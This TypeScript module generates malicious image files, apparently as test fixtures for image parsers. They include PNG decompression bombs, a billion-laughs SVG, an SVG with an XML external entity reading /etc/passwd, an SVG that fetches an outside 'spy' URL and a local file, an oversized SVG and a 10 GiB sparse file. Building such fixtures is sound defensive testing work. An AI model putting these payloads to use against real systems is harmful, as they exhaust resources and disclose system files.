import { closeSync, ftruncateSync, openSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { createDeflate, deflateSync } from 'node:zlib'
import { bigEndian, pngChunk, pngOf } from './make-files.ts'

/** What one bomb unpacks to. */
const unpackedMiB = 512
const sparseBytes = 10 * 2 ** 30

/** Small files that become large, deep or curious when they are read as pictures. `spyUrl` is an address an SVG asks for. */
export async function makeImageBombs(folder: string, spyUrl: string): Promise<string[]> {
  const rows = await deflatedZeros(unpackedMiB + 1)
  const side = Math.floor(Math.sqrt(unpackedMiB * 2 ** 20 * 8))
  const head = (size: number, depth: number) =>
    pngChunk('IHDR', Buffer.from([...bigEndian(size), ...bigEndian(size), depth, 0, 0, 0, 0]))
  const onePixel = pngChunk('IDAT', deflateSync(Buffer.alloc(2)))
  const bombs: Record<string, Buffer | string> = {
    'one-bit.png': pngOf([head(side, 1), pngChunk('IDAT', rows)]),
    'text-chunk.png': pngOf([head(1, 8), pngChunk('zTXt', Buffer.concat([Buffer.from('k\0\0'), rows])), onePixel]),
    'laughs.svg': `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">${laughs()}]>${svg('width="10" height="10"', '<text>&j;</text>')}`,
    'entity.svg': `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('width="600" height="200"', '<text y="20">&x;</text>')}`,
    'outside.svg': svg(
      'xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10"',
      `<image width="10" height="10" xlink:href="${spyUrl}"/><image xlink:href="file:///etc/passwd" width="1" height="1"/>`,
    ),
    'million.svg': svg('width="1000000" height="1000000"', '<rect width="100%" height="100%"/>'),
  }
  for (const [name, bytes] of Object.entries(bombs)) writeFileSync(join(folder, name), bytes)
  const sparse = openSync(join(folder, 'sparse.png'), 'w')
  ftruncateSync(sparse, sparseBytes)
  closeSync(sparse)
  return [...Object.keys(bombs), 'sparse.png']
}

function svg(attributes: string, content: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${content}</svg>`
}

/** Ten times each, nine times over. */
function laughs(): string {
  const letters = 'abcdefghij'.split('')
  return letters
    .map((letter, at) => (at === 0 ? '' : `<!ENTITY ${letter} "${`&${letters[at - 1]};`.repeat(10)}">`))
    .join('')
}

async function deflatedZeros(mebibytes: number): Promise<Buffer> {
  const zeros = Buffer.alloc(1 << 20)
  const packer = createDeflate({ level: 9 })
  const packed = packer.toArray()
  for (let count = 0; count < mebibytes; count += 1) {
    if (!packer.write(zeros)) await new Promise((resolve) => packer.once('drain', resolve))
  }
  packer.end()
  return Buffer.concat((await packed) as Buffer[])
}
